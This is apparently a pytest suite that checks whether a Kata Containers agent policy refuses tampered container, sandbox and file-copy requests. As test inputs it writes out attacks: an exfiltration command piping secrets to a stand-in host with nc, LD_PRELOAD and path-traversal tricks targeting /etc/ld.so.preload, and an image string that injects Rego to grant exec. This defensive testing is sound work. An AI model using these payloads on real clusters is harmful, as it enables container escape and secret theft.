"""The measured Kata agent policy, evaluated by regorus (the engine the Kata agent embeds).

Inputs are shaped like the Kata agent's requests (``CreateContainerRequest``: ``OCI`` spec and
``storages``; ``CreateSandboxRequest``; ``CopyFileRequest``; ``ExecProcessRequest``) and built
from the operator's own pod spec, so "allowed" means the pod the operator creates would start.
Every attack is also run against a weakened policy (the old permissive one, or the strict one
with one rule dropped) to show the attack test would catch the hole.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import opa_eval
import pytest

from cmcp_core import initdata
from cmcp_core.launch_policy import PAUSE_IMAGE, RUNTIME_MOUNTS, SHARED_CONTAINERS, render
from cmcp_operator.config import OperatorConfig
from cmcp_operator.workloads import IMAGE_PATH, deployment, launch_spec, revision
from tests.paths import DATA

NS = "team"
IMAGE = "ghcr.io/cmcp-k8s/cmcp-enclave@sha256:" + "5e" * 32
POD_IP = "10.244.1.17"
BSTATUS = {"bundleHash": "sha256:" + "ab" * 32, "catalogHash": "sha256:" + "cd" * 32,
           "enforcementMode": "enforce", "configMapName": "cmcp-bundle-b-abababab"}
OWNER = {"apiVersion": "cmcp.dev/v1alpha1", "kind": "McpRoute", "name": "r", "uid": "u", "controller": True}
ROUTE_SPEC = {"upstream": {"url": "http://up.example/mcp"}, "policyBundleRef": {"name": "b"}, "tee": "tdx"}
# What the python base image of the Dockerfile adds to the enclave's environment.
IMAGE_ENV = [f"PATH={IMAGE_PATH}", "PYTHONDONTWRITEBYTECODE=1", "PYTHONUNBUFFERED=1", "LANG=C.UTF-8",
             "GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D", "PYTHON_VERSION=3.11.11",
             "PYTHON_SHA256=" + "9a" * 32]
# What the kubelet adds: the hostname and the API server's service (even with enableServiceLinks off).
KUBELET_ENV = ["HOSTNAME=cmcp-r-7d9f8-abcde", "KUBERNETES_SERVICE_HOST=10.96.0.1",
               "KUBERNETES_SERVICE_PORT=443", "KUBERNETES_SERVICE_PORT_HTTPS=443", "KUBERNETES_PORT=tcp://10.96.0.1:443",
               "KUBERNETES_PORT_443_TCP=tcp://10.96.0.1:443", "KUBERNETES_PORT_443_TCP_PROTO=tcp",
               "KUBERNETES_PORT_443_TCP_PORT=443", "KUBERNETES_PORT_443_TCP_ADDR=10.96.0.1"]
CID = "c" * 64


def operator_pod() -> tuple[dict[str, Any], list[str]]:
    """The pod template the operator creates for route ``team/r``, and the argv it pins."""
    cfg = OperatorConfig(enclave_image=IMAGE)
    rev = revision(NS, "r", ROUTE_SPEC, BSTATUS, ["manifest.json"], cfg)
    pod = deployment(NS, "r", ROUTE_SPEC, rev, cfg, OWNER)["spec"]["template"]
    return pod, list(rev.command)


def expand(value: str) -> str:
    return value.replace("$(POD_IP)", POD_IP)


def genpolicy_inputs() -> dict[str, dict[str, Any]]:
    """What containerd + the Kata shim send the agent for the operator's pod, request by request."""
    pod, _ = operator_pod()
    container = pod["spec"]["containers"][0]
    env = [*IMAGE_ENV, *KUBELET_ENV]
    for var in container["env"]:
        value = POD_IP if "valueFrom" in var else expand(var["value"])
        env.append(f"{var['name']}={value}")
    mounts = [{"destination": d, "type_": t, "options": [],
               "source": f"{SHARED_CONTAINERS}{CID}-{d.rsplit('/', 1)[1]}" if t == "bind" else t}
              for d, t in RUNTIME_MOUNTS]
    storages = []
    for vm in container["volumeMounts"]:
        mounts.append({"destination": vm["mountPath"], "type_": "bind",
                       "source": f"{SHARED_CONTAINERS}{CID}-0123456789abcdef-{vm['name']}",
                       "options": ["rbind", "ro" if vm.get("readOnly") else "rw"]})
        storages.append({"driver": "local", "source": "local", "fstype": "local", "options": [],
                         "mount_point": f"/run/kata-containers/sandbox/ephemeral/{vm['name']}"})
    enclave = {
        "OCI": {
            "Annotations": {"io.kubernetes.cri.container-type": "container",
                            "io.kubernetes.cri.container-name": container["name"],
                            "io.kubernetes.cri.image-name": container["image"],
                            "io.kubernetes.cri.sandbox-namespace": NS},
            "Process": {"Terminal": False, "Args": [*container["command"], *container["args"]], "Env": env,
                        "Cwd": "/", "User": {"UID": 65532, "GID": 65532, "AdditionalGids": [65532]},
                        "Capabilities": {"Bounding": [], "Effective": [], "Inheritable": [],
                                         "Permitted": [], "Ambient": []},
                        "NoNewPrivileges": not container["securityContext"]["allowPrivilegeEscalation"]},
            "Root": {"Path": "/run/kata-containers/" + CID + "/rootfs",
                     "Readonly": container["securityContext"]["readOnlyRootFilesystem"]},
            "Mounts": mounts,
            "Linux": {"Namespaces": [{"Type": "ipc", "Path": ""}, {"Type": "uts", "Path": ""},
                                     {"Type": "mount", "Path": ""}]},
            "Hooks": None,
        },
        "storages": storages,
    }
    pause = {
        "OCI": {
            "Annotations": {"io.kubernetes.cri.container-type": "sandbox",
                            "io.kubernetes.cri.image-name": PAUSE_IMAGE},
            "Process": {"Terminal": False, "Args": ["/pause"], "Env": ["PATH=/usr/bin:/bin"], "Cwd": "/"},
            "Mounts": [{"destination": "/proc", "source": "proc", "type_": "proc", "options": []}],
            "Hooks": None,
        },
        "storages": [],
    }
    return {
        "pause": pause,
        "enclave": enclave,
        "sandbox": {"hostname": "", "kernel_modules": [], "guest_hook_path": "", "storages": []},
        "copy": {"path": f"{SHARED_CONTAINERS}{CID}-0123456789abcdef-bundle/manifest.json",
                 "file_mode": 0o100644, "data": list(b"{}")},
        "copy_link": {"path": f"{SHARED_CONTAINERS}{CID}-0123456789abcdef-bundle/manifest.json",
                      "file_mode": 0o120777, "data": list(b"..data/manifest.json")},
    }


def evaluate(policy: str, request: str, body: dict[str, Any], tmp_path: Path) -> bool:
    """Ask regorus what the agent would answer for ``request`` with this ``body``."""
    path = tmp_path / "policy.rego"
    path.write_text(policy)
    engine = opa_eval.OpaEval(str(path), query=f"data.agent_policy.{request}")
    answer = engine.evaluate_parsed(json.dumps(body))
    assert isinstance(answer, bool), answer
    return answer


def operator_policy() -> str:
    _, argv = operator_pod()
    return render(launch_spec(NS, IMAGE, argv))


def legacy_policy() -> str:
    """The permissive policy initdata carried before (the weakened component)."""
    _, argv = operator_pod()
    template = (DATA / "launch_policy" / "legacy_agent_policy.rego.in").read_text()
    return template.replace("__IMAGE__", IMAGE).replace("__ARGS__", json.dumps(argv))


def env_set(name: str, value: str) -> Callable[[dict[str, Any]], None]:
    def mutate(inputs: dict[str, Any]) -> None:
        env = inputs["enclave"]["OCI"]["Process"]["Env"]
        env[:] = [e for e in env if not e.startswith(f"{name}=")] + [f"{name}={value}"]
    return mutate


def host_path_bundle(inputs: dict[str, Any]) -> None:
    """The bundle mount swapped for a host directory at the very same destination."""
    for mount in inputs["enclave"]["OCI"]["Mounts"]:
        if mount["destination"] == "/etc/cmcp/bundle":
            mount["source"] = "/var/lib/attacker/bundle"


def extra_mount(source: str, destination: str) -> Callable[[dict[str, Any]], None]:
    def mutate(inputs: dict[str, Any]) -> None:
        inputs["enclave"]["OCI"]["Mounts"].append(
            {"destination": destination, "source": source, "type_": "bind", "options": ["rbind", "rw"]})
    return mutate


def extra_container(inputs: dict[str, Any]) -> None:
    inputs["enclave"]["OCI"]["Annotations"]["io.kubernetes.cri.container-name"] = "sidecar"


def add_capability(inputs: dict[str, Any]) -> None:
    caps = inputs["enclave"]["OCI"]["Process"]["Capabilities"]
    for key in ("Bounding", "Effective", "Permitted"):
        caps[key].append("CAP_SYS_ADMIN")


def copy_traversal(inputs: dict[str, Any]) -> None:
    inputs["copy"]["path"] = f"{SHARED_CONTAINERS}../../etc/ld.so.preload"


def copy_symlink_out(inputs: dict[str, Any]) -> None:
    inputs["copy_link"]["data"] = list(b"/etc/ld.so.preload")


def copy_symlink_up(inputs: dict[str, Any]) -> None:
    inputs["copy_link"]["data"] = list(b"../../../../etc/ld.so.preload")


def sandbox_label_other_image(inputs: dict[str, Any]) -> None:
    """An attacker image whose /pause is a shell script, labelled as the sandbox container."""
    inputs["pause"]["OCI"]["Annotations"]["io.kubernetes.cri.image-name"] = "docker.io/attacker/shell:latest"


def sandbox_label_other_command(inputs: dict[str, Any]) -> None:
    inputs["pause"]["OCI"]["Process"]["Args"] = ["/bin/sh", "-c", "cat /run/cmcp/* | nc evil 80"]


def guest_hook(inputs: dict[str, Any]) -> None:
    inputs["sandbox"]["guest_hook_path"] = "/usr/share/oci/hooks"


def kernel_module(inputs: dict[str, Any]) -> None:
    inputs["sandbox"]["kernel_modules"] = [{"name": "evil", "parameters": []}]


def oci_hook(inputs: dict[str, Any]) -> None:
    inputs["enclave"]["OCI"]["Hooks"] = {"Prestart": [{"Path": "/bin/sh", "Args": ["sh", "-c", "id"]}]}


def host_network_namespace(inputs: dict[str, Any]) -> None:
    inputs["enclave"]["OCI"]["Linux"]["Namespaces"].append({"Type": "network", "Path": "/proc/1/ns/net"})


def run_as_root(inputs: dict[str, Any]) -> None:
    inputs["enclave"]["OCI"]["Process"]["User"]["UID"] = 0


def root_group(inputs: dict[str, Any]) -> None:
    inputs["enclave"]["OCI"]["Process"]["User"]["AdditionalGids"] = [65532, 0]


def writable_root(inputs: dict[str, Any]) -> None:
    inputs["enclave"]["OCI"]["Root"]["Readonly"] = False


def other_args(inputs: dict[str, Any]) -> None:
    inputs["enclave"]["OCI"]["Process"]["Args"].extend(["--tee", "simulated"])


# (attack, mutation, request that must be refused, the rule whose removal lets it through)
ATTACKS: list[tuple[str, Callable[[dict[str, Any]], None], str, str]] = [
    ("LD_PRELOAD", env_set("LD_PRELOAD", "/run/cmcp/evil.so"), "enclave", "    env_exact\n"),
    ("PYTHONPATH", env_set("PYTHONPATH", "/run/cmcp"), "enclave", "    env_exact\n"),
    ("PATH changed", env_set("PATH", "/run/cmcp:" + IMAGE_PATH), "enclave", "    env_exact\n"),
    ("extra CMCP_* env", env_set("CMCP_ALLOW_SIMULATED", "1"), "enclave", "    env_exact\n"),
    ("kubelet variable abused", env_set("KUBERNETES_SERVICE_HOST", "10.0.0.1\nimport os"), "enclave",
     "    env_exact\n"),
    ("extra mount", extra_mount(f"{SHARED_CONTAINERS}{CID}-x-evil", "/opt/cmcp/lib/python3.11/x"),
     "enclave", "    mounts_exact\n"),
    ("hostPath mount", extra_mount("/host/etc", "/etc/cmcp/extra"), "enclave", "    mounts_exact\n"),
    ("hostPath at the bundle path", host_path_bundle, "enclave",
     '    startswith(m.source, "/run/kata-containers/")\n'),
    ("extra container", extra_container, "enclave",
     '    input.OCI.Annotations["io.kubernetes.cri.container-name"] == expected.container_name\n'),
    ("added capability", add_capability, "enclave", "    no_capabilities\n    no_hooks\n    env_exact"),
    ("OCI hook", oci_hook, "enclave", "    no_hooks\n    env_exact"),
    ("host network namespace", host_network_namespace, "enclave", "    namespaces_exact\n"),
    ("root user", run_as_root, "enclave", "    input.OCI.Process.User.UID == expected.uid\n"),
    ("root group", root_group, "enclave",
     '    every g in object.get(input.OCI.Process.User, "AdditionalGids", []) { g == expected.gid }\n'),
    ("writable root filesystem", writable_root, "enclave", "    input.OCI.Root.Readonly == true\n"),
    ("other args", other_args, "enclave", "    input.OCI.Process.Args == expected.args\n"),
    ("CopyFile traversal", copy_traversal, "copy", "    path_clean(input.path)\n    not is_symlink\n"),
    ("CopyFile absolute symlink", copy_symlink_out, "copy_link", "    target[0] != 47\n"),
    ("CopyFile .. symlink", copy_symlink_up, "copy_link", "    not dotdot_segment(target)\n"),
    ("sandbox label, other image", sandbox_label_other_image, "pause",
     '    input.OCI.Annotations["io.kubernetes.cri.image-name"] == expected.pause.image\n'),
    ("sandbox label, other command", sandbox_label_other_command, "pause",
     "    input.OCI.Process.Args == expected.pause.args\n"),
    ("guest hooks", guest_hook, "sandbox", '    object.get(input, "guest_hook_path", "") == ""\n'),
    ("kernel modules", kernel_module, "sandbox", '    count(object.get(input, "kernel_modules", [])) == 0\n'),
]
REQUEST = {"pause": "CreateContainerRequest", "enclave": "CreateContainerRequest",
           "sandbox": "CreateSandboxRequest", "copy": "CopyFileRequest", "copy_link": "CopyFileRequest"}


def attacked(mutate: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    inputs = copy.deepcopy(genpolicy_inputs())
    mutate(inputs)
    return inputs


@pytest.mark.parametrize("target", sorted(REQUEST))
def test_the_operators_own_pod_is_allowed(target: str, tmp_path: Path) -> None:
    assert evaluate(operator_policy(), REQUEST[target], genpolicy_inputs()[target], tmp_path)


@pytest.mark.parametrize(("name", "mutate", "target", "rule"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_each_injection_is_refused(name: str, mutate: Callable[[dict[str, Any]], None], target: str,
                                   rule: str, tmp_path: Path) -> None:
    assert not evaluate(operator_policy(), REQUEST[target], attacked(mutate)[target], tmp_path), name


@pytest.mark.parametrize(("name", "mutate", "target", "rule"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_dropping_the_rule_lets_the_injection_through(name: str, mutate: Callable[[dict[str, Any]], None],
                                                      target: str, rule: str, tmp_path: Path) -> None:
    """Weakened component: the strict policy minus the one rule that stops this attack."""
    strict = operator_policy()
    assert strict.count(rule) == 1, f"rule for {name} not found exactly once"
    kept = rule.split("\n", 1)[1] if rule.count("\n") > 1 else ""
    weakened = strict.replace(rule, kept)
    assert evaluate(weakened, REQUEST[target], attacked(mutate)[target], tmp_path), name


# The old policy pinned the enclave's args; every other attack went through it.
LEGACY_ATTACKS = [a for a in ATTACKS if a[0] != "other args"]


@pytest.mark.parametrize(("name", "mutate", "target", "rule"), LEGACY_ATTACKS,
                         ids=[a[0] for a in LEGACY_ATTACKS])
def test_the_old_permissive_policy_let_the_injection_through(
        name: str, mutate: Callable[[dict[str, Any]], None], target: str, rule: str, tmp_path: Path) -> None:
    """Weakened component: the policy initdata carried before issue 15 (problem 2)."""
    inputs = attacked(mutate)
    assert evaluate(legacy_policy(), REQUEST[target], inputs[target], tmp_path), name


@pytest.mark.parametrize("request_name", ["ExecProcessRequest", "SetPolicyRequest"])
def test_no_exec_and_no_repolicy(request_name: str, tmp_path: Path) -> None:
    body = {"container_id": CID, "exec_id": "x", "process": {"Args": ["/bin/sh"], "Env": [], "Cwd": "/"},
            "policy": "package agent_policy\ndefault ExecProcessRequest := true\n"}
    strict = operator_policy()
    assert not evaluate(strict, request_name, body, tmp_path)
    weakened = strict.replace(f"default {request_name} := false", f"default {request_name} := true")
    assert evaluate(weakened, request_name, body, tmp_path)


HOSTILE_IMAGE = 'x@sha256:' + "0" * 64 + '"\nExecProcessRequest := true\npinned := "'


def test_a_hostile_image_string_is_data_not_rego(tmp_path: Path) -> None:
    """Problem 3: the image string cannot become Rego source; exec stays refused."""
    entry = initdata.CmcpEntry("sha256:" + "ab" * 32, "sha256:" + "cd" * 32, "enforce", "t/r", "http://up")
    toml = initdata.render(entry, image=HOSTILE_IMAGE, command=["cmcp-enclave"])
    policy = initdata.parse(toml).data["policy.rego"]
    assert not evaluate(policy, "ExecProcessRequest", {"process": {"Args": ["/bin/sh"]}}, tmp_path)
    # Weakened component: the old interpolating renderer turns the same string into an exec grant.
    legacy = legacy_policy().replace(IMAGE, HOSTILE_IMAGE)
    assert evaluate(legacy, "ExecProcessRequest", {"process": {"Args": ["/bin/sh"]}}, tmp_path)
